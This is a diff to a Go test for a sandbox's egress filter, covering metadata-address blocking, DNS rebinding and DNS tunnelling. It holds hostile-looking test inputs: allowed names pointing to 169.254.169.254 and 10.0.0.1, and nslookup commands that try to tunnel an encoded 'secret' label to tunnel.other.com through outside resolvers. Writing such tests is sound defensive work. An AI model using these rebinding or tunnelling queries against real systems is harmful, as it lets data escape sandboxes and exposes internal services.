@@ -9,6 +9,7 @@ import (
 	"os/exec"
 	"runtime"
 	"strings"
+	"sync"
 	"syscall"
 	"testing"
 	"time"
@@ -37,8 +38,9 @@ func inOwnNet(t *testing.T) bool {
 
 // startInternet makes a namespace that has all public addresses, a server that sends hello on
 // port 80 of each of them, and a DNS server on port 53.
-func startInternet(t *testing.T, zone map[string]string) {
+func startInternet(t *testing.T, zone map[string]string) (asked func(name string) bool) {
 	t.Helper()
+	var names sync.Map
 	answers := map[string]dns.RR{}
 	for name, address := range zone {
 		rr, err := dns.NewRR(name + " 5 IN A " + address)
@@ -47,6 +49,7 @@ func startInternet(t *testing.T, zone map[string]string) {
 	}
 	handler := dns.HandlerFunc(func(w dns.ResponseWriter, q *dns.Msg) {
 		a := new(dns.Msg).SetReply(q)
+		names.Store(strings.ToLower(q.Question[0].Name), true)
 		if rr := answers[q.Question[0].Name]; rr == nil {
 			a.Rcode = dns.RcodeNameError
 		} else if q.Question[0].Qtype == dns.TypeA {
@@ -94,6 +97,10 @@ func startInternet(t *testing.T, zone map[string]string) {
 		_ = web.Close()
 		_ = questions.Close()
 	})
+	return func(name string) bool {
+		_, ok := names.Load(name)
+		return ok
+	}
 }
 
 // listenIn opens the internet's sockets in its namespace.
@@ -156,8 +163,8 @@ func TestSandboxReachesWhatItsObjectSays(t *testing.T) {
 	if !inOwnNet(t) {
 		return
 	}
-	startInternet(t, map[string]string{
-		"www.example.com.": "5.5.5.5", "other.com.": "6.6.6.6", "rebind.example.com.": "169.254.169.254",
+	asked := startInternet(t, map[string]string{
+		"www.example.com.": "5.5.5.5", "other.com.": "6.6.6.6", "rebind.example.com.": "169.254.169.254", "host.example.com.": "10.0.0.1",
 	})
 	m := newMachine(t)
 	m.cfg.Network.Resolvers = []netip.Addr{netip.MustParseAddr("9.9.9.9")}
@@ -206,8 +213,23 @@ func TestSandboxReachesWhatItsObjectSays(t *testing.T) {
 	traced("other.com", 80, egress.Refused, "no entry of allowOut")
 	traced("169.254.169.254", 80, egress.Refused, "metadata")
 	traced(n.network.Gateway().String(), 80, egress.Refused, "machine itself")
-	if out, _ := run(t, n, s, "busybox nslookup rebind.example.com"); strings.Contains(out, "169.254.169.254") {
-		t.Errorf("a name leads to the metadata address: %q", out)
+	// An allowed name that leads inside (DNS rebinding) has no address.
+	for name, inside := range map[string]string{"rebind.example.com": "169.254.169.254", "host.example.com": "10.0.0.1"} {
+		if out := resolved(t, n, s, name); strings.Contains(out, inside) {
+			t.Errorf("%s leads to %s: %q", name, inside, out)
+		}
+		if !asked(name + ".") {
+			t.Errorf("no server was asked for %s", name)
+		}
+	}
+	// A name that is not allowed carries nothing out (DNS tunnelling), by whatever server and type.
+	for i, ask := range []string{"%s", "%s 8.8.8.8", "-type=TXT %s", "-type=CNAME %s 8.8.8.8"} {
+		name := fmt.Sprintf("c2VjcmV0-%d.tunnel.other.com", i)
+		question := "busybox nslookup " + fmt.Sprintf(ask, name)
+		run(t, n, s, question)
+		if asked(name + ".") {
+			t.Errorf("%q reached a server outside", question)
+		}
 	}
 
 	// Another server takes over; what the sandbox may reach is as it was before it responds.
